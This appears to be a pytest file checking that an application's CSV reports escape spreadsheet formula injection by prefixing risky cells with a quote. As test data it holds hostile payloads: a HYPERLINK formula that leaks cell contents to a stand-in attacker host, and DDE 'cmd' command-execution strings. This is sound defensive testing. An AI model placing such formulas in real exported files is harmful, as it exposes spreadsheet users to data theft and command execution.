"""No CSV we write lets a spreadsheet run a formula (issue 12, item 11).

Values from member files and buckets reach the rejects report and the duplicate reports;
opened in Excel or LibreOffice, ``=HYPERLINK(...)`` or ``=cmd|...`` would be evaluated.
"""

from __future__ import annotations

import csv
import io
import subprocess
from pathlib import Path

import pytest

from hma_gui.core.config.settings import load_settings
from hma_gui.core.csv_export import FORMULA_TRIGGERS, SafeCsvWriter, original_cell, safe_cell
from hma_gui.core.duplicates.local import ScanIssue
from hma_gui.core.duplicates.report import DuplicateReport
from hma_gui.core.duplicates.s3_check import Comparison, S3CheckResult, S3Class, S3Finding
from hma_gui.core.etl.pipeline import EtlOptions, run_etl
from tests.conftest import REPO_ROOT, S3Env
from tests.etl.conftest import upload_csv

HOSTILE = (
    '=HYPERLINK("http://evil.example/?"&A1,"Click")',
    "=cmd|' /C calc'!A0",
    "+02134",
    "-2+3",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
)


def _cells(text: str) -> list[str]:
    return [cell for row in csv.reader(io.StringIO(text, newline="")) for cell in row]


def _assert_inert(text: str) -> None:
    for cell in _cells(text):
        assert not cell.startswith(FORMULA_TRIGGERS), cell


@pytest.mark.parametrize("value", HOSTILE)
def test_a_cell_a_spreadsheet_would_run_gets_a_leading_quote(value: str) -> None:
    assert safe_cell(value) == "'" + value
    assert original_cell(str(safe_cell(value))) == value


@pytest.mark.parametrize("value", ["Ann", "02134", "ann@example.com", "'quoted", "", 42, -1.5])
def test_ordinary_cells_and_numbers_are_left_alone(value: object) -> None:
    assert safe_cell(value) == value


def test_negative_amounts_stay_readable() -> None:
    stream = io.StringIO()
    SafeCsvWriter(stream, lineterminator="\n").writerow(["-42.50", -42.5])
    assert stream.getvalue() == "'-42.50,-42.5\n"


def test_the_duplicate_report_csv_is_inert() -> None:
    finding = S3Finding(
        path="/exports/a.csv", size=3, md5="0" * 32, bucket="b", key=HOSTILE[1],
        s3_class=S3Class.DUPLICATE_ELSEWHERE, how=Comparison.ETAG_MD5, detail=HOSTILE[0],
        other_keys=(HOSTILE[2],),
    )  # fmt: skip
    s3 = S3CheckResult(findings=[finding], issues=[ScanIssue(HOSTILE[5], HOSTILE[4])])
    stream = io.StringIO()
    DuplicateReport(s3=s3).write_csv(stream)
    _assert_inert(stream.getvalue())
    row = next(csv.DictReader(io.StringIO(stream.getvalue())))
    assert row["key"] == "'" + HOSTILE[1]


@pytest.mark.integration
def test_the_rejects_report_is_inert(s3_env: S3Env) -> None:
    header = (
        "member_id,first_name,last_name,date_of_birth,gender,plan_id,effective_date,"
        "termination_date,zip_code,email\n"
    )
    rows = [
        f'"{HOSTILE[0].replace(chr(34), chr(34) * 2)}",A,B,1980-01-01,,P-1,2024-01-01,,,\n',
        "M-0001,A,B,1980-01-01,,P-1,2024-01-01,,+02134,\n",
        f"M-0002,A,B,1980-01-01,,P-1,2024-01-01,,,{HOSTILE[1]}\n",
        "M-0003,A,B,-2+3,,P-1,2024-01-01,,,\n",
    ]
    upload_csv(s3_env, "MemberData.csv", (header + "".join(rows)).encode())
    result = run_etl(load_settings(), EtlOptions())
    assert result.rejects_path is not None
    text = result.rejects_path.read_text(encoding="utf-8")
    _assert_inert(text)
    values = {original_cell(r["value"]) for r in csv.DictReader(io.StringIO(text))}
    assert {HOSTILE[0], "+02134", HOSTILE[1], "-2+3"} <= values


def test_every_csv_writer_in_the_app_goes_through_csv_export() -> None:
    """A new `csv.writer` for people must use `core.csv_export` (tools/ and bench/ write
    input data, not reports, and keep their values verbatim)."""
    found = subprocess.run(
        ["grep", "-rlE", r"csv\.(writer|DictWriter)\(", "hma_gui"],
        cwd=REPO_ROOT, capture_output=True, text=True, check=False,
    ).stdout.split()  # fmt: skip
    assert sorted(Path(p).as_posix() for p in found) == ["hma_gui/core/csv_export.py"]
